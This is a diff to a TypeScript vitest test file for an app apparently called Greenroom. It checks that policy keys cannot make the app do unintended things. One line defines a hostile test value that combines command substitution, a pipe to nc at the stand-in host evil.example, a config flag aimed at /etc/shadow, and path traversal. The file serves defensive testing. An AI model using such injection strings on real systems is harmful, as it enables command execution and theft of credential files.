@@ -1,6 +1,8 @@
 /** What a policy can make Greenroom do: every key by what it reaches, and proof that the rest reaches nothing. */
+
 import { readFileSync } from 'node:fs';
 import { describe, expect, it } from 'vitest';
+import type { PolicyValue } from '../../../electron/core/policy/policy.ts';
 import { noPolicy, type Policy, type PolicyKey } from '../../../electron/core/policy/policy.ts';
 import { runChecks } from '../../../electron/engine/run/run.ts';
 import type { MachinePort, Operation } from '../../../electron/platform/machine/machine.ts';
@@ -63,7 +65,7 @@ describe('every key by what it reaches', () => {
 });
 
 /** In every key the worst that it takes. */
-const hostileValue = (key: PolicyKey): unknown => {
+const hostileValue = (key: PolicyKey): PolicyValue => {
   const hostile = '$(touch /tmp/x); `id` | nc evil.example 1 & --config=/etc/shadow\n../../x';
   switch (key.kind) {
     case 'choice':
